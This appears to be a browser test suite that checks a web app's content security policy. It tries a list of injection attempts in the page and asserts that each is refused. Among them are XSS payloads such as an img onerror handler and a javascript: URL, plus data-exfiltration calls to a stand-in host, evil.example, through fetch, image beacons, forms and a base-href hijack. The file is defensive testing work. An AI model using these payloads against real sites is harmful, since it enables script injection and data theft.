import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startTestSite, type TestSite } from '../setup/browser.ts'
import { comeInAs } from './come-in.ts'

let site: TestSite
let page: Page
beforeAll(async () => {
  site = await startTestSite({ demo: true })
  page = await comeInAs(site, 'lead')
})
afterAll(() => site.close())

declare global {
  interface Window {
    /** set by whatever runs that should not */
    harmed?: boolean
    refused?: string[]
  }
}

/** What the browser refuses while this is tried in the page, as names of directives. */
async function refusedWhile(harm: () => unknown): Promise<string[]> {
  await page.evaluate(() => {
    window.refused = []
    document.addEventListener('securitypolicyviolation', (event) =>
      window.refused?.push(event.effectiveDirective),
    )
  })
  await page.evaluate(harm).catch(() => undefined)
  // a report comes a task later than what it is about
  await expect.poll(() => page.evaluate(() => window.refused)).not.toEqual([])
  return (await page.evaluate(() => window.refused)) ?? []
}

/** What a hole in our code could try, and what stops it. The last line of defence: text is never markup anyway. */
const harms: [name: string, harm: () => unknown, directive: string][] = [
  [
    'markup made of text',
    () => {
      document.body.innerHTML = '<img src=x onerror="window.harmed=true">'
    },
    'require-trusted-types-for',
  ],
  [
    'markup made beside an element',
    () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
    'require-trusted-types-for',
  ],
  ['a document written', () => document.write('<b>x</b>'), 'require-trusted-types-for'],
  [
    'a policy that would let it',
    () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => object }
      }
      trustedTypes.createPolicy('default', { createHTML: (text: string) => text })
    },
    'trusted-types',
  ],
  [
    'a script in the page',
    () => {
      const script = document.createElement('script')
      script.append('window.harmed = true')
      document.body.append(script)
    },
    'require-trusted-types-for',
  ],
  [
    'a handler in an attribute',
    () => document.body.setAttribute('onclick', 'window.harmed = true'),
    'require-trusted-types-for',
  ],
  [
    'a script of somebody else',
    () => {
      const script = document.createElement('script')
      script.setAttribute('src', 'https://evil.example/x.js')
      document.body.append(script)
    },
    'require-trusted-types-for',
  ],
  [
    'an address that is a script',
    () => {
      const link = document.createElement('a')
      link.href = 'javascript:window.harmed=true'
      document.body.append(link)
      link.click()
    },
    'script-src-elem',
  ],
  [
    'a style in an attribute',
    () => document.body.setAttribute('style', 'background: url(https://evil.example/x)'),
    'style-src-attr',
  ],
  [
    'a sheet of styles in the page',
    () => {
      const sheet = document.createElement('style')
      sheet.append('body { color: red }')
      document.head.append(sheet)
    },
    'style-src-elem',
  ],
  [
    'a picture from elsewhere',
    () => {
      new Image().src = 'https://evil.example/x.png?notes'
    },
    'img-src',
  ],
  ['words sent elsewhere', () => fetch('https://evil.example/', { method: 'POST' }), 'connect-src'],
  [
    'a frame',
    () => {
      const frame = document.createElement('iframe')
      frame.src = '/about'
      document.body.append(frame)
    },
    'frame-src',
  ],
  [
    'a form that posts elsewhere',
    () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      document.body.append(form)
      form.submit()
    },
    'form-action',
  ],
  [
    'another base for every address',
    () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
    },
    'base-uri',
  ],
  ['a worker', () => new Worker('/assets/x.js'), 'require-trusted-types-for'],
]

describe('in the browser', () => {
  test.each(harms)('%s is refused', async (_name, harm, directive) => {
    await page.goto('/about')
    await page.waitForSelector('main h1')
    expect(await refusedWhile(harm)).toContain(directive)
    expect(await page.evaluate(() => window.harmed)).toBeUndefined()
    expect(page.url()).toBe(`${site.url}/about`)
  })

  test('text that is a program is not run', async () => {
    await page.goto('/about')
    const run = () =>
      page.evaluate(
        () =>
          new Promise((resolve) => {
            // in a task of the page's own: what the debugger evaluates may do anything
            setTimeout(() => {
              try {
                resolve(new Function('return 1')())
              } catch (error) {
                resolve((error as Error).name)
              }
            })
          }),
      )
    expect(await run()).toBe('EvalError')
  })

  test('the map draws itself without markup, a policy or a word of complaint', async () => {
    const complaints: string[] = []
    page.on('console', (message) => {
      if (message.type() === 'error') complaints.push(message.text())
    })
    page.on('pageerror', (error) => complaints.push(error.message))
    await page.goto('/')
    await expect.poll(() => page.locator('.leaflet-overlay-pane path').count()).toBeGreaterThan(66)
    expect(complaints).toEqual([])
  })
})
